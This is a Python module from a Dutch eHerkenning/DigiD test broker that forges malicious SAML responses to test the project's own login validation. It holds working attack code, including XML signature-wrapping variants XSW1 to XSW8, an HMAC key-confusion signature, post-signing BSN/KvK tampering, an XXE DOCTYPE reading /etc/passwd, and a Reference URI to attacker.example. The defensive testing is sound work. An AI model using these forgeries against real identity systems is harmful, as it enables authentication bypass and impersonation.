"""Attack mode: the test broker produces malicious responses for the rows of the security matrix.

Each attack names its matrix row (docs/eherkenning.md). Hooks run at the stage where a real
attacker or a faulty broker would act: before the Assertion is signed (values the broker signs),
after it is signed (tampering, wrapping), or around the ArtifactResponse signature.

``ATTACKS`` are the eHerkenning side's; ``DIGID_ATTACKS`` the DigiD side's: every attack on the
signatures and the messages that applies to any SAML answer, plus DigiD's own (rows D1-D3 in
docs/adr/0013: another sector, a number failing the 11-proef, no NameID).
"""

import copy
import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any

from django.core.cache import cache

import xmlsec
from lxml import etree
from xmlsec import constants

from stap.identity.digid.config import BSN_SECTOR
from stap.identity.digid.config import LEVELS as DIGID_LEVELS
from stap.identity.eherkenning import xmlsig
from stap.identity.eherkenning.config import LEVELS, SPConfig, service_id, sp_config
from stap.testbroker import saml
from stap.testbroker.identity_provider import DIGID, Side, attacker_key_pair, broker_key_pair

DS = xmlsig.DS
SAML_NS = f"{{{saml.NS_SAML}}}"
SAMLP_NS = f"{{{saml.NS_SAMLP}}}"
LAST_IDS_KEY = "testbroker_last_ids"
# The attacker's own choices: an organisation and a (valid) BSN that are not the persona's.
EVIL_KVK = "99999999"
EVIL_BSN = "999990068"

Hook = Callable[[saml.Draft], None]


@dataclass(frozen=True, kw_only=True)
class Attack:
    key: str
    row: str
    label: str
    prepare_hook: Hook | None = None
    before_hook: Hook | None = None
    after_hook: Hook | None = None
    artifact_response_hook: Callable[[Any], None] | None = None
    envelope_hook: Callable[[bytes], bytes] | None = None

    def prepare(self, draft: saml.Draft) -> None:
        if self.prepare_hook:
            self.prepare_hook(draft)

    def before_signing(self, draft: saml.Draft) -> None:
        if self.before_hook:
            self.before_hook(draft)

    def after_signing(self, draft: saml.Draft) -> None:
        if self.after_hook:
            self.after_hook(draft)

    def before_artifact_response_signing(self, artifact_response: Any) -> None:
        if self.artifact_response_hook:
            self.artifact_response_hook(artifact_response)

    def after_artifact_response_signing(self, envelope: Any, serialised: bytes) -> bytes:
        return self.envelope_hook(serialised) if self.envelope_hook else serialised


# ------------------------------------------------------------------------------------- helpers
def _attribute_value(assertion: Any, name: str) -> Any:
    return assertion.find(f".//{SAML_NS}Attribute[@Name='{name}']/{SAML_NS}AttributeValue")


def _name_id(assertion: Any) -> Any:
    return assertion.find(f"{SAML_NS}Subject/{SAML_NS}NameID")


def _evil_copy(assertion: Any, *, keep_signature: bool = False, new_id: bool = True) -> Any:
    """An unsigned copy of the assertion for another KvK or BSN (the attacker's own)."""
    evil = copy.deepcopy(assertion)
    if not keep_signature:
        for signature in evil.findall(f"{DS}Signature"):
            evil.remove(signature)
    if new_id:
        evil.set("ID", saml.new_id())
    for name in ("urn:etoegang:core:LegalSubjectID",):
        value = _attribute_value(evil, name)
        if value is not None:
            value[0] = saml.encrypted_id(EVIL_KVK, saml.Q_KVK, sp_config())
    flat = _attribute_value(evil, saml.Q_KVK)
    if flat is not None:
        flat.text = EVIL_KVK
    name_id = _name_id(evil)
    if name_id is not None and (name_id.text or "").startswith(f"{BSN_SECTOR}:"):
        name_id.text = f"{BSN_SECTOR}:{EVIL_BSN}"  # DigiD
    return evil


def _set_flat(draft: saml.Draft) -> None:
    assert isinstance(draft.login, saml.Login)
    draft.login = replace(draft.login, identity_form="flat")


def _foreign_key(draft: saml.Draft) -> None:
    # attacker's key, but the genuine broker certificate in KeyInfo (certificate confusion)
    draft.signer = saml.Signer(key_pem=attacker_key_pair().key_pem, cert_pem=draft.signer.cert_pem)


def _foreign_key_and_cert(draft: saml.Draft) -> None:
    attacker = attacker_key_pair()
    draft.signer = saml.Signer(key_pem=attacker.key_pem, cert_pem=attacker.cert_pem)


def _sha1(draft: saml.Draft) -> None:
    draft.signer = saml.Signer(
        key_pem=draft.signer.key_pem,
        cert_pem=draft.signer.cert_pem,
        signature_method=xmlsig.RSA_SHA1,
        digest_method=xmlsig.SHA1,
    )


def _unsigned(draft: saml.Draft) -> None:
    draft.sign_assertion = False


def _response_signed_only(draft: saml.Draft) -> None:
    draft.sign_assertion = False
    draft.sign_response = True


def _sign_response_too(draft: saml.Draft) -> None:
    draft.sign_response = True


def _hmac_signature(draft: saml.Draft) -> None:
    """Replace the RSA signature by an HMAC one whose key travels in KeyInfo (CVE-2021-21239)."""
    assertion = draft.assertion
    for signature in assertion.findall(f"{DS}Signature"):
        assertion.remove(signature)
    template = xmlsec.template.create(
        assertion, constants.TransformExclC14N, constants.TransformHmacSha256, ns="ds"
    )
    assertion.find(f"{SAML_NS}Issuer").addnext(template)
    reference = xmlsec.template.add_reference(
        template, constants.TransformSha256, uri=f"#{assertion.get('ID')}"
    )
    xmlsec.template.add_transform(reference, constants.TransformEnveloped)
    xmlsec.template.add_transform(reference, constants.TransformExclC14N)
    xmlsec.template.add_key_name(xmlsec.template.ensure_key_info(template), "attacker")
    xmlsec.tree.add_ids(assertion.getroottree().getroot(), ["ID"])
    context = xmlsec.SignatureContext()
    context.key = xmlsec.Key.from_binary_data(constants.KeyDataHmac, b"attacker-shared-secret")
    context.sign(template)


def _tamper_kvk(draft: saml.Draft) -> None:
    value = _attribute_value(draft.assertion, "urn:etoegang:core:LegalSubjectID")
    if value is not None:  # anyone can encrypt to the SP: its certificate is public
        value[0] = saml.encrypted_id(EVIL_KVK, saml.Q_KVK, draft.sp)
    else:
        _attribute_value(draft.assertion, saml.Q_KVK).text = EVIL_KVK


def _tamper_level(draft: saml.Draft) -> None:
    draft.assertion.find(f".//{SAML_NS}AuthnContextClassRef").text = LEVELS["EH4"]


def _comment_in_kvk(draft: saml.Draft) -> None:
    value = _attribute_value(draft.assertion, saml.Q_KVK)
    kvk = value.text
    value.text = kvk[:4]
    comment = etree.Comment("")
    comment.tail = kvk[4:]
    value.append(comment)


def _set_in_response_to(value: str | None) -> Hook:
    def hook(draft: saml.Draft) -> None:
        data = draft.assertion.find(f".//{SAML_NS}SubjectConfirmationData")
        for element in (draft.response, data):
            if value is None:
                del element.attrib["InResponseTo"]
            else:
                element.set("InResponseTo", value)

    return hook


def _repeat_ids(*, response: bool, assertion: bool) -> Hook:
    def hook(draft: saml.Draft) -> None:
        last = cache.get(LAST_IDS_KEY)
        if isinstance(last, dict):
            if response:
                draft.response.set("ID", last["response"])
            if assertion:
                draft.assertion.set("ID", last["assertion"])

    return hook


def _shift_conditions(*, not_before: int = -5, not_on_or_after: int = 120) -> Hook:
    def hook(draft: saml.Draft) -> None:
        conditions = draft.assertion.find(f"{SAML_NS}Conditions")
        conditions.set("NotBefore", saml.saml_time(draft.now + dt.timedelta(seconds=not_before)))
        conditions.set(
            "NotOnOrAfter", saml.saml_time(draft.now + dt.timedelta(seconds=not_on_or_after))
        )

    return hook


def _expired_subject_confirmation(draft: saml.Draft) -> None:
    data = draft.assertion.find(f".//{SAML_NS}SubjectConfirmationData")
    data.set("NotOnOrAfter", saml.saml_time(draft.now - dt.timedelta(seconds=60)))


def _set_audience(value: str | None) -> Hook:
    def hook(draft: saml.Draft) -> None:
        conditions = draft.assertion.find(f"{SAML_NS}Conditions")
        restriction = conditions.find(f"{SAML_NS}AudienceRestriction")
        if value is None:
            conditions.remove(restriction)
        else:
            restriction.find(f"{SAML_NS}Audience").text = value

    return hook


def _set_destination(value: str) -> Hook:
    def hook(draft: saml.Draft) -> None:
        draft.response.set("Destination", value)

    return hook


def _recipient_with_suffix(draft: saml.Draft) -> None:
    data = draft.assertion.find(f".//{SAML_NS}SubjectConfirmationData")
    data.set("Recipient", draft.sp.acs_url + "evil/")  # the library only tests "substring in"


def _set_issuer(*, response: bool) -> Hook:
    def hook(draft: saml.Draft) -> None:
        element = draft.response if response else draft.assertion
        element.find(f"{SAML_NS}Issuer").text = "urn:etoegang:HM:00000000000000000666:entities:1"

    return hook


def _artifact_response_issuer(artifact_response: Any) -> None:
    artifact_response.find(f"{SAML_NS}Issuer").text = "urn:etoegang:HM:00000000000000000666:1"


def _set_attribute(name: str, value: str) -> Hook:
    def hook(draft: saml.Draft) -> None:
        _attribute_value(draft.assertion, name).text = value

    return hook


def _drop_attribute(name: str) -> Hook:
    def hook(draft: saml.Draft) -> None:
        attribute = draft.assertion.find(f".//{SAML_NS}Attribute[@Name='{name}']")
        attribute.getparent().remove(attribute)

    return hook


def _legal_subject(qualifier: str, value: str) -> Hook:
    def hook(draft: saml.Draft) -> None:
        attribute = draft.assertion.find(
            f".//{SAML_NS}Attribute[@Name='urn:etoegang:core:LegalSubjectID']"
        )
        attribute[0][0] = saml.encrypted_id(value, qualifier, draft.sp)

    return hook


def _short_kvk(draft: saml.Draft) -> None:
    assert isinstance(draft.login, saml.Login)
    draft.login = replace(draft.login, kvk_number="1234567")


def _unknown_level(draft: saml.Draft) -> None:
    element = draft.assertion.find(f".//{SAML_NS}AuthnContextClassRef")
    element.text = "urn:etoegang:core:assurance-class:loa9"


def _strip_artifact_response_signature(serialised: bytes) -> bytes:
    envelope = etree.fromstring(serialised)
    artifact_response = envelope.find(f".//{SAMLP_NS}ArtifactResponse")
    artifact_response.remove(artifact_response.find(f"{DS}Signature"))
    return bytes(etree.tostring(envelope, xml_declaration=True, encoding="UTF-8"))


def _doctype(serialised: bytes) -> bytes:
    body = serialised.split(b"?>", 1)[1]
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<!DOCTYPE Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + body
    )


# ---------------------------------------------------------------------- signature wrapping (S8)
def _xsw_response(*, inside_signature: bool) -> Hook:
    """XSW1/XSW2: an evil unsigned Response whose signature still covers the original."""

    def hook(draft: saml.Draft) -> None:
        original = draft.response
        evil = copy.deepcopy(original)
        evil.set("ID", saml.new_id())
        evil_assertion = evil.find(f"{SAML_NS}Assertion")
        evil.replace(evil_assertion, _evil_copy(evil_assertion, new_id=False))
        for old in evil.findall(f"{DS}Signature"):
            evil.remove(old)
        signature = copy.deepcopy(original.find(f"{DS}Signature"))
        evil.find(f"{SAML_NS}Issuer").addnext(signature)
        if inside_signature:
            obj = etree.SubElement(signature, f"{DS}Object")
            obj.append(copy.deepcopy(original))
        else:
            signature.addprevious(copy.deepcopy(original))
        draft.response = evil

    return hook


def _xsw3(draft: saml.Draft) -> None:
    """Evil unsigned assertion inserted before the signed one."""
    draft.assertion.addprevious(_evil_copy(draft.assertion))


def _xsw4(draft: saml.Draft) -> None:
    """Evil assertion at the top; the signed original moved inside it."""
    evil = _evil_copy(draft.assertion)
    draft.assertion.addprevious(evil)
    evil.append(draft.assertion)


def _xsw5(draft: saml.Draft) -> None:
    """The signature moved onto an evil copy with the original ID; unsigned original appended."""
    evil = _evil_copy(draft.assertion, keep_signature=True, new_id=False)
    original = draft.assertion
    original.remove(original.find(f"{DS}Signature"))
    original.addprevious(evil)
    draft.response.append(original)


def _xsw6(draft: saml.Draft) -> None:
    """Evil copy keeps the signature; the original hides in the signature's ds:Object."""
    evil = _evil_copy(draft.assertion, keep_signature=True, new_id=False)
    original = draft.assertion
    original.addprevious(evil)
    draft.response.remove(original)
    original.remove(original.find(f"{DS}Signature"))
    etree.SubElement(evil.find(f"{DS}Signature"), f"{DS}Object").append(original)


def _xsw7(draft: saml.Draft) -> None:
    """The signed original moved into samlp:Extensions; an evil assertion takes its place."""
    original = draft.assertion
    evil = _evil_copy(original)
    original.addprevious(evil)
    extensions = etree.Element(f"{SAMLP_NS}Extensions")
    draft.response.find(f"{SAML_NS}Issuer").addnext(extensions)
    extensions.append(original)


def _xsw8(draft: saml.Draft) -> None:
    """Evil assertion with the original signature; the unsigned original inside its ds:Object."""
    original = draft.assertion
    evil = _evil_copy(original, keep_signature=True, new_id=False)
    original.addprevious(evil)
    draft.response.remove(original)
    original.remove(original.find(f"{DS}Signature"))
    etree.SubElement(evil.find(f"{DS}Signature"), f"{DS}Object").append(original)
    evil.find(f"{DS}Signature").addprevious(etree.Comment("xsw8"))


# ----------------------------------------------------------------- Advice-based wrapping (S9)
def _advice_holds_signed_original(draft: saml.Draft) -> None:
    """The signed assertion moved into Advice of an evil, unsigned top-level assertion."""
    original = draft.assertion
    evil = _evil_copy(original)
    original.addprevious(evil)
    advice = etree.Element(f"{SAML_NS}Advice")
    evil.find(f"{SAML_NS}Conditions").addnext(advice)
    advice.append(original)


def _advice_holds_evil_copy_with_same_id(draft: saml.Draft) -> None:
    """An evil copy with the signed assertion's ID placed in Advice (ID confusion)."""
    original = draft.assertion
    evil = _evil_copy(original, new_id=False)
    advice = etree.Element(f"{SAML_NS}Advice")
    advice.append(evil)
    wrapper = _evil_copy(original)
    wrapper.find(f"{SAML_NS}Conditions").addnext(advice)
    draft.response.append(wrapper)


def _advice_signed_evil_assertion(draft: saml.Draft) -> None:
    """The top-level assertion is unsigned; a broker-signed one sits in its Advice."""
    original = draft.assertion
    evil = _evil_copy(original)
    draft.response.replace(original, evil)
    advice = etree.Element(f"{SAML_NS}Advice")
    evil.find(f"{SAML_NS}Conditions").addnext(advice)
    advice.append(original)


# ------------------------------------------------------------------------------- S10 / S11
def _reference_to_response(draft: saml.Draft) -> None:
    reference = draft.assertion.find(f"{DS}Signature/{DS}SignedInfo/{DS}Reference")
    reference.set("URI", f"#{draft.response.get('ID')}")


def _empty_reference_uri(draft: saml.Draft) -> None:
    """Signed honestly by the broker key, but over the whole document (URI="")."""
    assertion = draft.assertion
    for signature in assertion.findall(f"{DS}Signature"):
        assertion.remove(signature)
    template = xmlsec.template.create(
        assertion, constants.TransformExclC14N, constants.TransformRsaSha256, ns="ds"
    )
    assertion.find(f"{SAML_NS}Issuer").addnext(template)
    reference = xmlsec.template.add_reference(template, constants.TransformSha256, uri="")
    xmlsec.template.add_transform(reference, constants.TransformEnveloped)
    xmlsec.template.add_transform(reference, constants.TransformExclC14N)
    context = xmlsec.SignatureContext()
    context.key = xmlsec.Key.from_memory(draft.signer.key_pem, constants.KeyDataFormatPem, None)
    context.sign(template)


def _two_signatures(draft: saml.Draft) -> None:
    signature = draft.assertion.find(f"{DS}Signature")
    signature.addnext(copy.deepcopy(signature))


def _duplicate_id(draft: saml.Draft) -> None:
    extensions = etree.Element(f"{SAMLP_NS}Extensions")
    draft.response.find(f"{SAML_NS}Issuer").addnext(extensions)
    extensions.append(_evil_copy(draft.assertion, new_id=False))


def _xslt_transform(draft: saml.Draft) -> None:
    """An XSLT transform in the signed Reference (DoS/SSRF in xmlsec, GHSA-8mmq-f9vf-8fg2)."""
    (transforms,) = draft.assertion.xpath(
        "./ds:Signature/ds:SignedInfo/ds:Reference/ds:Transforms", namespaces=xmlsig.NS
    )
    xslt = etree.SubElement(
        transforms, f"{DS}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"
    )
    stylesheet = etree.SubElement(
        xslt, "{http://www.w3.org/1999/XSL/Transform}stylesheet", version="1.0"
    )
    etree.SubElement(stylesheet, "{http://www.w3.org/1999/XSL/Transform}template", match="/")


def _external_reference_uri(draft: saml.Draft) -> None:
    reference = draft.assertion.find(f"{DS}Signature/{DS}SignedInfo/{DS}Reference")
    reference.set("URI", f"http://attacker.example/#{draft.assertion.get('ID')}")


def _encrypted_for_another_key(draft: saml.Draft) -> None:
    """LegalSubjectID encrypted to a certificate that is not ours (signed by the broker)."""
    assert isinstance(draft.login, saml.Login)
    attacker = attacker_key_pair()
    other = replace(draft.sp, key_pair=attacker)
    value = _attribute_value(draft.assertion, "urn:etoegang:core:LegalSubjectID")
    value[0] = saml.encrypted_id(draft.login.kvk_number, saml.Q_KVK, other)


def _evil_assertion_in_extensions(draft: saml.Draft) -> None:
    """The signed assertion stays in place; an evil unsigned one waits in samlp:Extensions.

    Schema-valid, and the toolkit (with eHerkenning's wrapping protection off) does not count
    it: only our "exactly one Assertion outside Advice" check sees it.
    """
    extensions = etree.Element(f"{SAMLP_NS}Extensions")
    draft.response.find(f"{SAML_NS}Issuer").addnext(extensions)
    extensions.append(_evil_copy(draft.assertion))


def _two_assertions(draft: saml.Draft) -> None:
    draft.response.append(_evil_copy(draft.assertion))


def _other_service(key: str) -> Hook:
    def hook(draft: saml.Draft) -> None:
        assert isinstance(draft.sp, SPConfig)
        other = next(s for s in draft.sp.services.values() if s.key != draft.request.service_key)
        if key == "id":
            _set_attribute("urn:etoegang:core:ServiceID", other.service_id)(draft)
        elif key == "uuid":
            _set_attribute("urn:etoegang:core:ServiceUUID", other.service_uuid)(draft)
        else:
            foreign = service_id("00000001111111111111", "9052")
            _set_attribute("urn:etoegang:core:ServiceID", foreign)(draft)

    return hook


def _attack(key: str, row: str, label: str, **hooks: Any) -> Attack:
    return Attack(key=key, row=row, label=label, **hooks)


_ALL = [
    _attack("unsigned", "S1", "Assertion and Response unsigned", prepare_hook=_unsigned),
    _attack(
        "response_signed_only",
        "S2",
        "Only the Response signed",
        prepare_hook=_response_signed_only,
    ),
    _attack(
        "artifact_response_unsigned",
        "S3",
        "ArtifactResponse signature removed",
        envelope_hook=_strip_artifact_response_signature,
    ),
    _attack(
        "foreign_key",
        "S4",
        "Signed with a foreign key (genuine certificate in KeyInfo)",
        prepare_hook=_foreign_key,
    ),
    _attack(
        "foreign_key_and_cert",
        "S5",
        "Signed with a foreign key and its own certificate in KeyInfo",
        prepare_hook=_foreign_key_and_cert,
    ),
    _attack("hmac_signature", "S6", "HMAC signature, key in KeyInfo", after_hook=_hmac_signature),
    _attack("tampered_kvk", "S7", "KvK replaced after signing", after_hook=_tamper_kvk),
    _attack("tampered_level", "S7", "Level raised after signing", after_hook=_tamper_level),
    _attack(
        "xsw1",
        "S8",
        "XSW1: evil Response, original inside its signature",
        prepare_hook=_sign_response_too,
        after_hook=_xsw_response(inside_signature=True),
    ),
    _attack(
        "xsw2",
        "S8",
        "XSW2: evil Response, original before its signature",
        prepare_hook=_sign_response_too,
        after_hook=_xsw_response(inside_signature=False),
    ),
    _attack("xsw3", "S8", "XSW3: evil assertion before the signed one", after_hook=_xsw3),
    _attack("xsw4", "S8", "XSW4: signed assertion inside an evil one", after_hook=_xsw4),
    _attack("xsw5", "S8", "XSW5: signature moved to an evil copy", after_hook=_xsw5),
    _attack("xsw6", "S8", "XSW6: original inside the evil copy's signature", after_hook=_xsw6),
    _attack("xsw7", "S8", "XSW7: signed assertion in Extensions", after_hook=_xsw7),
    _attack("xsw8", "S8", "XSW8: unsigned original in ds:Object", after_hook=_xsw8),
    _attack(
        "advice_signed_original",
        "S9",
        "Signed assertion in the Advice of an evil assertion",
        after_hook=_advice_holds_signed_original,
    ),
    _attack(
        "advice_same_id",
        "S9",
        "Evil copy with the signed ID inside Advice",
        after_hook=_advice_holds_evil_copy_with_same_id,
    ),
    _attack(
        "advice_signed_evil",
        "S9",
        "Unsigned top-level assertion, signed one in its Advice",
        after_hook=_advice_signed_evil_assertion,
    ),
    _attack(
        "reference_to_response",
        "S10",
        "Reference URI points at another element",
        after_hook=_reference_to_response,
    ),
    _attack("empty_reference_uri", "S10", "Empty Reference URI", after_hook=_empty_reference_uri),
    _attack("two_signatures", "S10", "Two signatures on the assertion", after_hook=_two_signatures),
    _attack(
        "duplicate_id", "S10", "Second element with the assertion's ID", after_hook=_duplicate_id
    ),
    _attack(
        "evil_assertion_in_extensions",
        "S8",
        "Evil unsigned assertion in samlp:Extensions next to the signed one",
        after_hook=_evil_assertion_in_extensions,
    ),
    _attack("xslt_transform", "S14", "XSLT transform in the Reference", after_hook=_xslt_transform),
    _attack(
        "external_reference_uri",
        "S15",
        "Reference URI to another host",
        after_hook=_external_reference_uri,
    ),
    _attack(
        "encrypted_for_another_key",
        "S32",
        "LegalSubjectID encrypted to another certificate",
        before_hook=_encrypted_for_another_key,
    ),
    _attack("two_assertions", "S11", "A second, unsigned assertion", after_hook=_two_assertions),
    _attack(
        "comment_in_kvk",
        "S12",
        "XML comment inside the (flat) KvK number",
        prepare_hook=_set_flat,
        before_hook=_comment_in_kvk,
    ),
    _attack("doctype", "S13", "DOCTYPE with an external entity", envelope_hook=_doctype),
    _attack("sha1", "S16", "RSA-SHA1 / SHA-1 signature", prepare_hook=_sha1),
    _attack(
        "unknown_in_response_to",
        "S17",
        "InResponseTo of a request we never sent",
        before_hook=_set_in_response_to("_0123456789abcdef0123456789abcdef"),
    ),
    _attack(
        "missing_in_response_to",
        "S17",
        "No InResponseTo",
        before_hook=_set_in_response_to(None),
    ),
    _attack(
        "repeat_response_id",
        "S18",
        "Response ID of the previous response",
        before_hook=_repeat_ids(response=True, assertion=False),
    ),
    _attack(
        "repeat_assertion_id",
        "S18",
        "Assertion ID of the previous response",
        before_hook=_repeat_ids(response=False, assertion=True),
    ),
    _attack(
        "expired",
        "S19",
        "Conditions expired",
        before_hook=_shift_conditions(not_before=-1200, not_on_or_after=-600),
    ),
    _attack(
        "not_yet_valid",
        "S19",
        "Conditions not yet valid",
        before_hook=_shift_conditions(not_before=600, not_on_or_after=1200),
    ),
    _attack(
        "expired_subject_confirmation",
        "S19",
        "SubjectConfirmationData expired",
        before_hook=_expired_subject_confirmation,
    ),
    _attack(
        "other_audience",
        "S20",
        "Audience of another service provider",
        before_hook=_set_audience("urn:etoegang:DV:00000001111111111111:entities:9000"),
    ),
    _attack("no_audience", "S20", "No AudienceRestriction", before_hook=_set_audience(None)),
    _attack(
        "other_destination",
        "S21",
        "Destination of another service provider",
        before_hook=_set_destination("https://other.example/eherkenning/acs/"),
    ),
    _attack("empty_destination", "S21", "Empty Destination", before_hook=_set_destination("")),
    _attack(
        "other_recipient",
        "S21",
        "Recipient that merely contains our ACS URL",
        before_hook=_recipient_with_suffix,
    ),
    _attack(
        "other_issuer_response",
        "S22",
        "Response Issuer of another broker",
        before_hook=_set_issuer(response=True),
    ),
    _attack(
        "other_issuer_assertion",
        "S22",
        "Assertion Issuer of another broker",
        before_hook=_set_issuer(response=False),
    ),
    _attack(
        "other_issuer_artifact_response",
        "S22",
        "ArtifactResponse Issuer of another broker",
        artifact_response_hook=_artifact_response_issuer,
    ),
    _attack("unknown_level", "S24", "Unknown level URN", before_hook=_unknown_level),
    _attack(
        "other_service_id",
        "S25",
        "ServiceID of our other service",
        before_hook=_other_service("id"),
    ),
    _attack(
        "other_service_uuid",
        "S25",
        "ServiceUUID of our other service",
        before_hook=_other_service("uuid"),
    ),
    _attack(
        "foreign_service_id",
        "S25",
        "ServiceID of another service provider",
        before_hook=_other_service("foreign"),
    ),
    _attack(
        "no_kvk",
        "S26",
        "No LegalSubjectID",
        before_hook=_drop_attribute("urn:etoegang:core:LegalSubjectID"),
    ),
    _attack(
        "rsin_only",
        "S26",
        "RSIN instead of KvK",
        before_hook=_legal_subject(saml.Q_RSIN, "819935177"),
    ),
    _attack("bsn_only", "S26", "BSN instead of KvK", before_hook=_legal_subject(saml.Q_BSN, "x")),
    _attack("short_kvk", "S26", "KvK number of 7 digits", prepare_hook=_short_kvk),
]
ATTACKS: dict[str, Attack] = {attack.key: attack for attack in _ALL}


# ------------------------------------------------------------------------------------ DigiD
def _digid_login(**changes: str) -> Hook:
    """What the DigiD side is made to assert (and signs): another sector, BSN or level."""

    def hook(draft: saml.Draft) -> None:
        assert isinstance(draft.login, saml.DigiDLogin)
        draft.login = replace(draft.login, **changes)

    return hook


def _signed_by_eherkenning_side(draft: saml.Draft) -> None:
    """Signed by the eHerkenning side: a key the DigiD SP must not trust (S4)."""
    keys = broker_key_pair()
    draft.signer = saml.Signer(key_pem=keys.key_pem, cert_pem=keys.cert_pem)


def _tamper_bsn(draft: saml.Draft) -> None:
    _name_id(draft.assertion).text = f"{BSN_SECTOR}:{EVIL_BSN}"


def _tamper_digid_level(draft: saml.Draft) -> None:
    draft.assertion.find(f".//{SAML_NS}AuthnContextClassRef").text = DIGID_LEVELS["Hoog"]


def _comment_in_bsn(draft: saml.Draft) -> None:
    name_id = _name_id(draft.assertion)
    value = name_id.text
    name_id.text = value[:13]  # "s00000000:" and three digits
    comment = etree.Comment("")
    comment.tail = value[13:]
    name_id.append(comment)


def _no_name_id(draft: saml.Draft) -> None:
    subject = draft.assertion.find(f"{SAML_NS}Subject")
    subject.remove(_name_id(draft.assertion))


# Every attack on signatures and messages that applies to any SAML answer, by key.
_GENERIC_KEYS = (
    "unsigned",
    "response_signed_only",
    "artifact_response_unsigned",
    "foreign_key",
    "foreign_key_and_cert",
    "hmac_signature",
    "xsw1",
    "xsw2",
    "xsw3",
    "xsw4",
    "xsw5",
    "xsw6",
    "xsw7",
    "xsw8",
    "advice_signed_original",
    "advice_same_id",
    "advice_signed_evil",
    "reference_to_response",
    "empty_reference_uri",
    "two_signatures",
    "duplicate_id",
    "evil_assertion_in_extensions",
    "xslt_transform",
    "external_reference_uri",
    "two_assertions",
    "doctype",
    "sha1",
    "unknown_in_response_to",
    "missing_in_response_to",
    "repeat_response_id",
    "repeat_assertion_id",
    "expired",
    "not_yet_valid",
    "expired_subject_confirmation",
    "other_audience",
    "no_audience",
    "other_destination",
    "empty_destination",
    "other_recipient",
    "other_issuer_response",
    "other_issuer_assertion",
    "other_issuer_artifact_response",
    "unknown_level",
)
_DIGID_ONLY = [
    _attack(
        "eherkenning_side_key",
        "S4",
        "Signed with the eHerkenning side's key (trusted for eHerkenning only)",
        prepare_hook=_signed_by_eherkenning_side,
    ),
    _attack("tampered_bsn", "S7", "BSN replaced after signing", after_hook=_tamper_bsn),
    _attack(
        "tampered_level", "S7", "Level raised to Hoog after signing", after_hook=_tamper_digid_level
    ),
    _attack("comment_in_bsn", "S12", "XML comment inside the BSN", before_hook=_comment_in_bsn),
    _attack(
        "too_low_level",
        "S24",
        "Level Basis, below the requested minimum Midden",
        prepare_hook=_digid_login(level="Basis"),
    ),
    _attack(
        "sofi_sector",
        "D1",
        "Sector s00000001 (SOFI) instead of s00000000 (BSN)",
        prepare_hook=_digid_login(sector=saml.SOFI_SECTOR),
    ),
    _attack(
        "bsn_fails_11_proef",
        "D2",
        "A number of 9 digits that fails the 11-proef",
        prepare_hook=_digid_login(bsn="999990010"),
    ),
    _attack("no_name_id", "D3", "No NameID", before_hook=_no_name_id),
]
DIGID_ATTACKS: dict[str, Attack] = {key: ATTACKS[key] for key in _GENERIC_KEYS} | {
    attack.key: attack for attack in _DIGID_ONLY
}


def attacks_for(side: Side) -> dict[str, Attack]:
    return DIGID_ATTACKS if side.kind == DIGID.kind else ATTACKS


def remember_ids(response: Any) -> None:
    """Keep the ids of the last issued response, for the S18 repeat attacks."""
    assertion = response.find(f"{SAML_NS}Assertion")
    if assertion is not None:
        cache.set(
            LAST_IDS_KEY,
            {"response": response.get("ID"), "assertion": assertion.get("ID")},
            saml.REQUEST_TTL,
        )
